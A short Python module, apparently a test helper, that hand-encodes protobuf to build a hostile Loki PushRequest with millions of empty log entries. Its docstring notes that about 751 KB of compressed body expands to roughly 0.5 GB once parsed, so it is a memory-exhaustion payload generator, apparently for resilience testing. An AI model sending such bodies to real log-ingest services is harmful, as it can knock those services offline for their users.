"""Protobuf on the wire, by hand, for hostile bodies no client library would write."""

from __future__ import annotations


def varint(value: int) -> bytes:
    """A protobuf base-128 varint."""
    out = b""
    while True:
        low, value = value & 0x7F, value >> 7
        if not value:
            return out + bytes([low])
        out += bytes([low | 0x80])


def empty_loki_entries(count: int, labels: bytes = b'{service_name="s"}') -> bytes:
    """A Loki PushRequest of one stream with ``count`` empty entries: two bytes an entry
    (8 million: 16 MB, 751 KB snappy; about 0.5 GB once parsed)."""
    stream = b"\x0a" + varint(len(labels)) + labels + b"\x12\x00" * count
    return b"\x0a" + varint(len(stream)) + stream
